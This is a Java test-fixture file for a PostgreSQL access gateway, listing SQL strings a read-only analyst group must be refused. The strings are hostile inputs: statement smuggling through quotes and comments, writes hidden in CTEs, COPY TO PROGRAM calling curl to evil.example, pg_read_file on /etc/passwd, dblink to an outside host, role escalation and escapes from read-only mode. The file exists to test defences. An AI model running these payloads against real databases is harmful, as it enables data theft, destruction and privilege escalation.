package io.hoopgw.core.policy;

import java.util.List;
import java.util.Map;

/**
 * The adversarial suite: attempts to get a write, a server-file read, a privilege change or a way out of read-only
 * mode past a read-only group. Public so that the gateway's integration tests run the same cases through a real
 * gateway to a real PostgreSQL.
 */
public final class AdversarialCases {
    /** The read-only group of {@link #policyNode()}: reads anything but {@code payments.*}, never sleeps. */
    public static final String READ_ONLY_GROUP = "analysts";

    private static final List<String> DENIED = List.of(
            // quote and comment smuggling
            "SELECT E'\\' , \" ' ; DELETE FROM t; -- '",
            "SELECT '\\'; DELETE FROM customers WHERE id = 1; --'",
            "SELECT 1 /* ; */ ; DROP TABLE customers",
            "SELECT 1 /* outer /* inner */ ; */ ; DROP TABLE customers",
            "SELECT 'a' -- '\n; UPDATE customers SET name = 'x' WHERE id = 1",
            "SELECT $$ ; $$; TRUNCATE customers",
            "SELECT $q$ $$ ; $q$; DELETE FROM customers WHERE id = 1",
            "SELECT a$b$ FROM t; DELETE FROM t WHERE x = 1; SELECT $b$",
            "SELECT abe'\\'; DELETE FROM customers WHERE id = 1; --'",
            "SELECT E'a' '\\'; DELETE FROM customers WHERE id = 1; --'",
            "SELECT 'unterminated; DELETE FROM customers",
            "SELECT 1 /* unterminated; DELETE FROM customers",
            "SELECT \"unterminated; DELETE FROM customers",
            "SELECT 1 */* ; */ 2; DELETE FROM customers WHERE id = 1",
            // multi-statement tricks
            "SELECT 1; DELETE FROM customers WHERE id = 1",
            "select * from customers; delete from customers where id = 1",
            "BEGIN; INSERT INTO customers VALUES (1); COMMIT",
            "SELECT 1;;;;; UPDATE customers SET name = 'x' WHERE id = 1",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; DELETE FROM t WHERE id = 1",
            // data-modifying CTEs, SELECT INTO, locking reads
            "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
            "WITH u AS (UPDATE customers SET name = 'x' WHERE id = 1 RETURNING id) SELECT count(*) FROM u",
            "WITH i AS (INSERT INTO customers (id) VALUES (1) RETURNING id) SELECT * FROM i",
            "WITH a AS (SELECT 1), d AS (DELETE FROM customers WHERE id = 1) SELECT * FROM a",
            "SELECT * INTO stolen FROM customers",
            "SELECT * INTO TEMP stolen FROM customers",
            "SELECT * FROM customers FOR UPDATE",
            "SELECT * FROM customers FOR NO KEY UPDATE",
            "SELECT * FROM customers FOR SHARE",
            "SELECT * FROM (SELECT * FROM customers FOR UPDATE) s",
            "(SELECT * FROM customers) UNION (SELECT * FROM customers FOR UPDATE)",
            "SELECT nextval('customers_id_seq')",
            "SELECT setval('customers_id_seq', 1)",
            // plain writes, DDL and guardrails
            "INSERT INTO customers VALUES (1)",
            "DELETE FROM customers",
            "UPDATE customers SET name = 'x'",
            "MERGE INTO customers c USING src s ON c.id = s.id WHEN MATCHED THEN DELETE",
            "TRUNCATE customers",
            "LOCK TABLE customers",
            "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
            "CREATE TEMP TABLE t AS SELECT * FROM customers",
            "ALTER TABLE customers ADD COLUMN x int",
            "REFRESH MATERIALIZED VIEW summary",
            // COPY
            "COPY (SELECT 1) TO PROGRAM 'curl http://evil.example/'",
            "COPY customers FROM PROGRAM 'id'",
            "COPY customers TO '/tmp/customers.csv'",
            "COPY customers FROM '/etc/passwd'",
            "COPY customers FROM STDIN",
            "COPY (DELETE FROM customers WHERE id = 1 RETURNING *) TO STDOUT",
            "COPY customers TO stdin",
            // leaving read-only mode
            "SELECT set_config('default_transaction_read_only','off',false)",
            "SELECT pg_catalog.set_config('transaction_read_only', 'off', true)",
            "SELECT set_config(current_setting('x.y'), 'off', false)",
            "SET default_transaction_read_only = off",
            "SET default_transaction_read_only TO DEFAULT",
            "SET SESSION default_transaction_read_only = false",
            "SET LOCAL transaction_read_only = 0",
            "SET default_transaction_read_only = off; SELECT 1",
            "RESET default_transaction_read_only",
            "RESET ALL",
            "DISCARD ALL",
            "BEGIN READ WRITE",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SET TRANSACTION READ WRITE",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            // server files, large objects, other servers, other backends, hidden in casts and subqueries
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT CAST(pg_read_file('/etc/passwd') AS text)",
            "SELECT pg_read_file('/etc/passwd')::text",
            "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
            "SELECT (SELECT pg_ls_dir('.') LIMIT 1)",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT * FROM customers WHERE name = (SELECT lo_export(1, '/tmp/x')::text)",
            "SELECT CASE WHEN true THEN pg_read_binary_file('/etc/passwd') END",
            "SELECT coalesce(NULL, pg_read_file('/etc/passwd'))",
            "SELECT length(pg_read_file('/etc/passwd')) > 0",
            "SELECT lo_import('/etc/passwd')",
            "SELECT dblink_exec('host=evil', 'DROP TABLE t')",
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
            "SELECT pg_terminate_backend(1234)",
            "SELECT pg_reload_conf()",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT PG_READ_FILE('/etc/passwd')",
            "SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') IS NOT NULL) FROM customers",
            "SELECT pg_sleep(3600)",
            "VALUES (pg_read_file('/etc/passwd'))",
            // EXPLAIN, DO, CALL, PREPARE, cursors
            "EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1",
            "EXPLAIN (ANALYZE true, BUFFERS) UPDATE customers SET name = 'x' WHERE id = 1",
            "EXPLAIN (ANALYZE) INSERT INTO customers VALUES (1)",
            "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
            "EXPLAIN SELECT pg_read_file('/etc/passwd')",
            "DO $$ BEGIN DELETE FROM customers; END $$",
            "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'",
            "CALL cleanup()",
            "PREPARE p AS DELETE FROM customers WHERE id = $1",
            "PREPARE p (int) AS SELECT pg_read_file('/etc/passwd')",
            "DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE",
            // privileges and administration
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "RESET ROLE",
            "RESET SESSION AUTHORIZATION",
            "RESET session_authorization",
            "RESET \"ROLE\"",
            // read-only analysts may not; PostgreSQL refuses them in read-only transactions, and the startup
            // packet's default_transaction_read_only beats role and database settings anyway
            "ALTER ROLE CURRENT_USER SET default_transaction_read_only = off",
            "ALTER DATABASE app SET default_transaction_read_only = off",
            "GRANT ALL ON customers TO analysts",
            "CREATE ROLE intruder SUPERUSER",
            "ALTER USER analyst WITH SUPERUSER",
            "ALTER SYSTEM SET log_statement = 'none'",
            "LOAD '/tmp/evil.so'",
            "VACUUM FULL customers",
            "CHECKPOINT",
            // relation rules: the payments schema however it is spelled
            "SELECT * FROM payments.cards",
            "SELECT * FROM PAYMENTS.CARDS",
            "SELECT * FROM \"payments\".\"cards\"",
            "SELECT * FROM U&\"p\\0061yments\".cards",
            "SELECT * FROM public.customers c JOIN payments.cards p ON p.customer_id = c.id",
            "SELECT (SELECT number FROM payments.cards LIMIT 1)",
            "TABLE payments.cards",
            "COPY payments.cards TO STDOUT",
            "COPY (SELECT * FROM payments.cards) TO STDOUT",
            "EXPLAIN SELECT * FROM payments.cards",
            "DECLARE c CURSOR FOR SELECT * FROM payments.cards",
            "SET search_path = payments",
            "SET search_path = payments; SELECT * FROM cards",
            "SET SCHEMA 'payments'",
            "SET \"SEARCH_PATH\" = payments",
            "RESET \"search_path\"",
            // unknown
            "FROBNICATE customers",
            "IMPORT FOREIGN SCHEMA remote FROM SERVER evil INTO public");

    /**
     * Every way to leave read-only mode, act as another role, or change the encoding the gateway reads SQL in.
     * These are refused by flags and guardrails, not by the classes a group happens not to have: a read-only group
     * allowed every class and function must be refused them too.
     */
    private static final List<String> ESCAPES = List.of(
            // default_transaction_read_only and transaction_read_only, however written
            "SET default_transaction_read_only = off",
            "SET default_transaction_read_only TO 'off'",
            "SET default_transaction_read_only = false",
            "SET default_transaction_read_only = DEFAULT",
            "SET SESSION default_transaction_read_only = off",
            "SET LOCAL default_transaction_read_only = off",
            "SET \"default_transaction_read_only\" = off",
            "SET \"DEFAULT_TRANSACTION_READ_ONLY\" = off",
            "SET Default_Transaction_Read_Only = off",
            "SET default_transaction_read_only /* on */ = off",
            "SET transaction_read_only = off",
            "SET transaction_read_only TO 0",
            "SET \"Transaction_Read_Only\" = off",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SET TRANSACTION READ WRITE",
            "SET TRANSACTION ISOLATION LEVEL READ COMMITTED READ WRITE",
            "BEGIN READ WRITE",
            "BEGIN TRANSACTION READ WRITE",
            "BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE",
            "BEGIN READ /* comment */ WRITE",
            "START TRANSACTION READ WRITE",
            "START TRANSACTION READ ONLY, READ WRITE",
            "RESET default_transaction_read_only",
            "RESET transaction_read_only",
            "RESET \"DEFAULT_TRANSACTION_READ_ONLY\"",
            "RESET ALL",
            "DISCARD ALL",
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            "SELECT set_config('DEFAULT_TRANSACTION_READ_ONLY', 'off', false)",
            "SELECT set_config('transaction_read_only', 'off', true)",
            "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
            "SELECT \"set_config\"('default_transaction_read_only', 'off', false)",
            "SELECT pg_catalog.\"set_config\"('default_transaction_read_only', 'off', false)",
            "SELECT set_config(E'default\\x5ftransaction_read_only', 'off', false)",
            "SELECT set_config(U&'default\\005ftransaction\\005fread\\005fonly', 'off', false)",
            "SELECT set_config('default_' || 'transaction_read_only', 'off', false)",
            "SELECT set_config('default_transaction_read_only'::text, 'off', false)",
            "SELECT set_config($1, 'off', false)",
            "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE '%read_only'",
            "SELECT 1 WHERE set_config('default_transaction_read_only', 'off', false) IS NOT NULL",
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
            "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'transaction_read_only'",
            // client_encoding: the gateway reads SQL as UTF-8
            "SET client_encoding = 'LATIN1'",
            "SET client_encoding TO 'SQL_ASCII'",
            "SET client_encoding TO DEFAULT",
            "SET SESSION client_encoding = 'SJIS'",
            "SET LOCAL client_encoding = 'BIG5'",
            "SET \"client_encoding\" = 'LATIN1'",
            "SET \"CLIENT_ENCODING\" = 'LATIN1'",
            "SET NAMES 'LATIN1'",
            "SET NAMES 'GBK'",
            "SET client_encoding = 'LATIN1'; SELECT 1",
            "SELECT set_config('client_encoding', 'LATIN1', false)",
            "SELECT set_config('Client_Encoding', 'SJIS', false)",
            "UPDATE pg_settings SET setting = 'LATIN1' WHERE name = 'client_encoding'",
            // who the session is
            "SET ROLE postgres",
            "SET SESSION ROLE postgres",
            "SET LOCAL ROLE postgres",
            "SET role = 'postgres'",
            "SET \"role\" TO postgres",
            "SET \"ROLE\" TO postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET LOCAL SESSION AUTHORIZATION postgres",
            "SET SESSION SESSION AUTHORIZATION DEFAULT",
            "SET session_authorization = 'postgres'",
            "SET \"session_authorization\" TO postgres",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT set_config('session_authorization', 'postgres', false)",
            "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'");

    private AdversarialCases() {
    }

    /** The policy every case is judged under, as the map Jackson makes of its YAML. */
    public static Map<String, Object> policyNode() {
        return TestPolicies.node();
    }

    /** SQL strings that {@link #READ_ONLY_GROUP} must be refused, whatever the classifier makes of them. */
    public static List<String> deniedForReadOnly() {
        return DENIED;
    }

    /**
     * SQL strings that leave read-only mode, change the session's role or its client_encoding: refused to
     * {@link #READ_ONLY_GROUP} and to a read-only group allowed every class and function.
     */
    public static List<String> readOnlyEscapes() {
        return ESCAPES;
    }
}
